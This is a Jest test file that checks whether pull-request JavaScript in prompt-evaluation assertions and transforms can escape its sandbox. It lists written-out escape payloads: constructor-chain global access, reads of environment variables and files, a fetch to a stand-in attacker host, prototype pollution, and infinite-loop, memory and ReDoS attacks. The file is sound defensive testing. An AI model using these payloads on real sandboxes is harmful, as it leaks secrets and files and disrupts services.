import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { type AttackWorld, configure, expectNothingLost, openAttack, type Played } from '../support/attack-world.ts';
import { promptFiles } from '../support/prompt-files.ts';

/**
 * JavaScript where the base's configuration allows it. Each throws, is stopped, or finds nothing; whatever it finds it would tell by a score of 1
 * and a reason.
 */
const ESCAPES: Readonly<Record<string, string>> = {
  constructor: `const g = output.constructor.constructor('return this')(); const found = ['process', 'require', 'fetch', 'Deno', 'WebAssembly', 'setTimeout', 'global', 'Buffer', 'postMessage', 'importScripts'].filter((name) => name in g); return { pass: found.length > 0, score: 1, reason: found.map((name) => 'ESCAPED ' + name).join() }`,
  environment: `return { pass: true, score: 1, reason: 'ESCAPED ' + process.env.CANARY }`,
  file: `return { pass: true, score: 1, reason: 'ESCAPED ' + require('fs').readFileSync('OUTSIDE', 'utf8') }`,
  module: `return import('fs').then((fs) => ({ pass: true, score: 1, reason: 'ESCAPED ' + fs.readFileSync('OUTSIDE', 'utf8') }))`,
  network: `return fetch('EVIL').then(() => ({ pass: true, score: 1, reason: 'ESCAPED' }))`,
  caller: `return { pass: true, score: 1, reason: 'ESCAPED ' + arguments.callee.caller.caller }`,
  stack: `Error.prepareStackTrace = (_, frames) => frames; const frame = new Error().stack[0]; return { pass: true, score: 1, reason: 'ESCAPED ' + frame.getThis().process.env.CANARY }`,
  async: `const f = Object.getPrototypeOf(async () => 1).constructor; return f('return process.env.CANARY')().then((found) => ({ pass: true, score: 1, reason: 'ESCAPED ' + found }))`,
  proxy: `return new Proxy({}, { get: (_, name) => name === 'then' ? undefined : (() => { throw process })() })`,
  json: `return { toJSON: () => ({ pass: true, score: 1, reason: 'ESCAPED ' + process.env.CANARY }) }`,
  loop: `for (;;) {}`,
  promises: `const again = () => Promise.resolve().then(again); return again()`,
  memory: `const all = []; for (;;) all.push('x'.repeat(1e6) + all.length)`,
  recursion: `const f = () => f() + 1; return f()`,
  expression: `return /^(a+)+$/.test('a'.repeat(40) + '!')`,
  long: `return { pass: true, score: 1, reason: 'ESCAPED'.repeat(200000) }`,
  pollution: `Object.prototype.pass = true; Object.prototype.score = 1; Object.prototype.reason = 'ESCAPED'; Array.prototype.map = () => []; JSON.stringify = () => '{"pass":true,"score":1,"reason":"ESCAPED"}'; String.prototype.includes = () => true; globalThis.polluted = true; return { }`,
  result: `return { pass: { valueOf: () => true }, score: '1', reason: ['found'] }`,
};
/** Those that end by a limit, which takes its time: as assertions alone. */
const LIMITED: ReadonlySet<string> = new Set(['loop', 'promises', 'memory', 'recursion', 'expression']);
/** Runs after all of them, in the same thread: the globals are as new. */
const AFTER = `return { pass: typeof polluted === 'undefined' && ({}).pass === undefined && [1].map((one) => one + 1)[0] === 2 && !'a'.includes('b'), score: 1, reason: 'clean' }`;

const indent = (code: string) => `|-\n          // ${'-'.repeat(3)}\n          ${code}`;

function writeSuite(programs: readonly (readonly [id: string, code: string])[], key: 'assert' | 'transform'): string {
  const lines = programs.map(([id, code]) => {
    if (key === 'assert') return `  - id: ${id}\n    input: x\n    assert:\n      - type: javascript\n        value: ${indent(code)}\n`;
    return `  - id: ${id}\n    input: x\n    options:\n        transform: ${indent(code)}\n    assert: [{ type: contains, value: ESCAPED }]\n`;
  });
  return `tests:\n${lines.join('')}`;
}

const TEXT = 'You answer the questions of our customers briefly, truly and kindly.\n';

describe('JavaScript that a pull request brings where the base allows it', () => {
  let attack: AttackWorld;
  const played = new Map<string, Played>();

  beforeAll(async () => {
    attack = await openAttack({
      base: (hosts) => ({
        ...configure(hosts, 'evals: { confirm: 0, allowJavascript: true }'),
        ...promptFiles('assertions', {}, TEXT),
        ...promptFiles('transforms', {}, TEXT),
      }),
      head: ({ evil, outside }) => {
        const programs = Object.entries(ESCAPES).map(([id, code]) => [id, code.replace('EVIL', evil).replace('OUTSIDE', outside)] as const);
        return {
          'prompts/assertions/evals.yaml': writeSuite([...programs, ['zz-after', AFTER]], 'assert'),
          'prompts/transforms/evals.yaml': writeSuite(
            programs.filter(([id]) => !LIMITED.has(id)),
            'transform',
          ),
        };
      },
      model: { answer: () => 'All is good.' },
    });
    for (const [program, one] of await attack.play()) played.set(program, one);
  });
  afterAll(() => attack.close());

  describe.each(['review', 'the Action'])('%s', (program) => {
    const casesOf = (id: string) => {
      const { report } = played.get(program) as Played;
      const prompt = report.prompts.find((one: { id: string }) => one.id === id);
      return new Map<string, { passRate: number; outputs: { assertions: { reason: string }[] }[] }>(
        prompt.evals.cases.map((one: { id: string; candidate: object }) => [one.id, one.candidate]),
      );
    };

    test('ends, and lets nothing out', () => {
      const one = played.get(program) as Played;
      expectNothingLost(attack, one);
      expect([one.status, one.stdout.includes('ESCAPED ')]).toEqual([1, false]);
    });

    test.each(Object.keys(ESCAPES))('%s, as an assertion and as a transform', (id) => {
      expect(casesOf('assertions').get(id)?.passRate).toBe(0);
      expect(casesOf('transforms').get(id)?.passRate).toBe(LIMITED.has(id) ? undefined : 0);
    });

    test('leaves nothing behind', () => {
      expect(casesOf('assertions').get('zz-after')?.passRate).toBe(1);
    });
  });
});
